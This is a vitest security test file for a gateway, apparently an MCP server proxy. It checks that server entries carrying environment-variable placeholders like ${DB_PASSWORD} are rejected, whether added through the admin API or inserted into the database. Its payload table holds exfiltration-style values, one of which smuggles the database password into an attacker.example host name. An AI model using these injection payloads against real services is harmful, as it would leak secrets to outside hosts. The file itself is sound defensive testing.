/** Servers that an admin, or whoever can write the database, adds to have the gateway send them what its environment holds. */
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { Workspace } from "../e2e/identity/workspace.ts";
import { helloServer } from "../e2e/kit/gateway.ts";
import { describeAttacks, describeThree, startThree } from "./kit/describe-attacks.ts";
import { openTables } from "./kit/kept-trail.ts";

const SECRET = "hunter2-of-the-database";
const env = { DB_PASSWORD: SECRET, ISTHMUS_SERVER_FAR: "for-servers" };
const config = `[auth]\ntokens = true\n[access]\ndefaultPolicy = "opt-out"\n${helloServer()}`;
const tokens = { root: ["--user", "root", "--role", "admin"] };

/** A server of somebody who waits for what is sent to it. */
const heard: string[] = [];
const ear = createServer((request, response) => {
  heard.push(`${request.headers.host} ${request.url} ${JSON.stringify(request.headers)}`);
  response.writeHead(500).end();
});
let base = "";
beforeAll(async () => {
  await new Promise<void>((resolve) => ear.listen(0, "127.0.0.1", resolve));
  base = `http://127.0.0.1:${(ear.address() as AddressInfo).port}`;
});
afterAll(() => {
  ear.closeAllConnections();
  ear.close();
});

/** At "EAR" is the server that listens. */
const TABLES: readonly object[] = [
  { url: "EAR/${DB_PASSWORD:-x}" },
  { url: "EAR/${DB_PASSWORD}" },
  { url: "EAR/a${" },
  { url: "ftp://${DB_PASSWORD:-x}" },
  { url: "${DB_PASSWORD:-x}" },
  { url: "http://[${DB_PASSWORD:-x}" },
  { url: "http://${DB_PASSWORD:-x}.attacker.example/mcp" },
  { url: "EAR/mcp", prefix: "${DB_PASSWORD:-x}" },
  { url: "EAR/mcp", timeout: "${DB_PASSWORD:-30s}" },
  { url: "EAR/mcp", headers: { X: "${DB_PASSWORD:-x}" } },
  { url: "EAR/mcp", headers: { X: "${DB_PASSWORD}" } },
  { url: "EAR/mcp", headers: { X: { fromEnv: "${DB_PASSWORD:-x}" } } },
  { url: "EAR/mcp", headers: { "${DB_PASSWORD:-x}": { fromEnv: "ISTHMUS_SERVER_FAR" } } },
  { url: "EAR/mcp", args: ["${DB_PASSWORD:-x}"] },
];

describeAttacks("variables in the table of a server over the API", { config, tokens, env }, (field) => {
  const put = (table: object) =>
    field.api("PUT", "/api/servers/evil", JSON.parse(JSON.stringify(table).replaceAll("EAR", base)), { as: "root" });

  test.each(TABLES)("are refused, and nothing of them is sent or shown: %j", async (table) => {
    const { status, text } = await put(table);
    expect([status, text]).toEqual([422, expect.not.stringContaining(SECRET)]);
    expect((await field.api("GET", "/api/servers/evil", undefined, { as: "root" })).status).toBe(404);
    expect([heard.join("\n"), field.log()].join("\n")).not.toContain(SECRET);
  });

  test.each([
    "http://ann:pw-of-ann@127.0.0.1:9/mcp",
    "http://pw-of-ann@127.0.0.1:9/mcp",
    "http:ann:pw-of-ann@127.0.0.1:9",
  ])("are not needed for a password in the address, which is refused: %s", async (url) => {
    const { status } = await put({ url });
    expect(status).toBe(422);
    expect(field.log()).not.toContain("pw-of-ann");
  });

  test("are refused with where they stand and what can be named instead", async () => {
    const { text } = await put({ url: "EAR/${DB_PASSWORD:-x}" });
    expect(text).toMatch(/url/);
    expect(text).toMatch(/no variables are filled in here/);
    expect(text).toContain("ISTHMUS_SERVER_");
  });
});

/** As whoever can write the database puts them there: beside a server that may be there. */
function rowsOf(updated: string): readonly string[] {
  const tables = {
    evil: { url: `${base}/\${DB_PASSWORD:-x}` },
    bare: { url: `${base}/\${DB_PASSWORD}` },
    good: { url: `${base}/mcp` },
  };
  const rows = Object.entries(tables).map(
    ([id, table]) => `('default', 'server', '${id}', '${JSON.stringify(table)}', 1, '${updated}')`,
  );
  return [
    `insert into policy (tenant, kind, key, value, updated_at, updated_by) values ${rows.join(", ")}`,
    "update policy_version set version = version + 1",
  ];
}

type Shown = { readonly servers: readonly { readonly id: string }[] };

async function expectLeftOut(origin: string, token: string, log: () => string): Promise<void> {
  await vi.waitFor(
    async () => {
      const response = await fetch(`${origin}/api/servers`, { headers: { authorization: `Bearer ${token}` } });
      const { servers } = (await response.json()) as Shown;
      expect(servers.map(({ id }) => id).sort()).toEqual(["good", "hello"]);
      expect(heard.filter((one) => one.includes("/mcp "))).not.toEqual([]);
    },
    { timeout: 30_000, interval: 200 },
  );
  expect(heard.join("\n")).not.toContain(SECRET);
  expect(heard.filter((one) => !one.includes(" /mcp "))).toEqual([]);
  expect(log()).not.toContain(SECRET);
  expect(log()).toContain("a table in the policy is none that can be added");
}

describe("a row with variables for a server in one process", () => {
  test("is left out at the next start, and the others are there", async () => {
    heard.length = 0;
    await using place = new Workspace(`[gateway]\n${config}`);
    const token = await place.createToken(...tokens.root);
    const tables = await openTables({ file: join(place.folder, ".isthmus/isthmus.db") });
    for (const text of rowsOf("somebody")) await tables.query(text);
    await tables.close();
    const origin = await place.up("127.0.0.1:0", { HOME: place.folder, ...env });
    await expectLeftOut(origin, token, () => place.log);
  });
});

describeThree("a row with variables for a server", () => {
  test("is left out by each, and the others are there", async () => {
    heard.length = 0;
    await using field = await startThree({ config, tokens, env });
    const [url = ""] = /postgres:\/\/[^"]+/.exec(readFileSync(join(field.folder(0), "isthmus.toml"), "utf8")) ?? [];
    const tables = await openTables({ url });
    for (const text of rowsOf("somebody")) await tables.query(text);
    await tables.close();
    for (const origin of field.origins) await expectLeftOut(origin, field.tokens.root ?? "", () => field.log());
  });
});
